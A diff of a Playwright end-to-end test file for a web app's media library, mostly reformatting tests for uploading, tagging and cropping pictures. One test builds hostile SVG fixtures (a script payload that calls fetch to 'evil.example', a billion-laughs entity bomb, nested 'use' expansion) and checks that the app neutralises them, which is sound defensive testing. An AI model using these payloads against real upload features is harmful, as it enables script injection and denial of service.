@@ -30,14 +30,22 @@ const removeAll = (stack: StackInfo, key: string) =>
     await sql`delete from public.media where name like ${`${key}%`}`
   })
 
-test('an editor selects pictures, tags them, sorts them, and deletes the unused ones together', async ({ page, stack }) => {
+test('an editor selects pictures, tags them, sorts them, and deletes the unused ones together', async ({
+  page,
+  stack,
+}) => {
   test.slow()
   const key = `lib-${crypto.randomUUID().slice(0, 6)}`
   try {
     await openAsEditor(page, stack)
     await upload(
       page,
-      Object.fromEntries(['a', 'b', 'c'].map((name, at) => [`${key}-${name}.svg`, svg('viewBox="0 0 100 100"', disc(`hsl(${at * 90} 50% 50%)`))])),
+      Object.fromEntries(
+        ['a', 'b', 'c'].map((name, at) => [
+          `${key}-${name}.svg`,
+          svg('viewBox="0 0 100 100"', disc(`hsl(${at * 90} 50% 50%)`)),
+        ]),
+      ),
     )
     for (const name of ['a', 'b', 'c']) await page.getByRole('button', { name: `Open ${key}-${name}.svg` }).waitFor() // oxlint-disable-line no-await-in-loop -- one after the other
     await page.getByRole('searchbox').fill(key)
@@ -83,7 +91,10 @@ test('an SVG logo becomes a picture with alpha; a hostile one does nothing [W15]
   page.on('dialog', (dialog) => void dialog.dismiss().then(() => requests.push('dialog')))
   const act = `parent.hacked = top.hacked = window.hacked = 1; fetch('https://evil.example/fetched')`
   const bomb = `<!DOCTYPE svg [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'bcdefghij'[at]} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]>`
-  const uses = Array.from({ length: 9 }, (_, at) => `<g id="u${at + 1}">${`<use href="#u${at}"/>`.repeat(10)}</g>`).join('')
+  const uses = Array.from(
+    { length: 9 },
+    (_, at) => `<g id="u${at + 1}">${`<use href="#u${at}"/>`.repeat(10)}</g>`,
+  ).join('')
   const good = {
     [`${key}-wide.svg`]: svg('viewBox="0 0 400 100"', '<rect width="100" height="100" fill="#f00"/>'),
     [`${key}-tall.svg`]: svg('width="10mm" height="40mm"', '<rect width="5" height="5" fill="#0f0"/>'),
@@ -132,7 +143,7 @@ test('an SVG logo becomes a picture with alpha; a hostile one does nothing [W15]
 
     const pixel = (name: string, x: number, y: number) =>
       page.getByRole('button', { name: `Open ${name}` }).locator('img').evaluate(async (image, at) => {
-        const bitmap = await createImageBitmap(await (await fetch((image as HTMLImageElement).src)).blob())
+        const bitmap = await createImageBitmap(await (await fetch(image.getAttribute('src') ?? '')).blob())
         const context = new OffscreenCanvas(bitmap.width, bitmap.height).getContext('2d')
         context?.drawImage(bitmap, 0, 0)
         return [...(context?.getImageData(at.x * bitmap.width, at.y * bitmap.height, 1, 1).data ?? [])]
@@ -144,7 +155,9 @@ test('an SVG logo becomes a picture with alpha; a hostile one does nothing [W15]
 
     await upload(page, refused)
     await expect(page.getByText('The file is damaged, or this browser cannot read it.')).toHaveCount(5)
-    expect(requests.filter((url) => url.includes('evil.example') || url === 'dialog' || url.includes('.svg'))).toEqual([])
+    expect(requests.filter((url) => url.includes('evil.example') || url === 'dialog' || url.includes('.svg'))).toEqual(
+      [],
+    )
     expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
   } finally {
     await removeAll(stack, key)
@@ -186,7 +199,10 @@ test('a picture is cropped freely by its handles, with the keyboard, a mouse and
     const [width, height] = (await size.innerText()).match(/\d+/g) ?? []
     await dialog.getByRole('button', { name: 'Save as a new picture' }).click()
     await expect(page.getByText('The crop is in the library')).toBeVisible()
-    const stored = await inDatabase(stack, (sql) => sql`select width, height from public.media where name = ${`${key}.svg, cropped`}`)
+    const stored = await inDatabase(
+      stack,
+      (sql) => sql`select width, height from public.media where name = ${`${key}.svg, cropped`}`,
+    )
     expect([...stored]).toEqual([{ width: Number(width), height: Number(height) }])
     expect(Number(width)).not.toBe(Number(height))
   } finally {
